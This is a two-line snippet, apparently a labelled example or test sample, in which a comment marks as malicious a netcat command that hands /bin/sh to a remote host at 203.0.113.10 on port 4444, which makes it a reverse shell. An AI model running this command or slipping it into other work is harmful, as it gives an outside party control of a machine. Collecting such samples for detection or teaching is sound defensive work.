# Malicious: netcat with -e hands /bin/sh to a remote host.
nc -e /bin/sh 203.0.113.10 4444
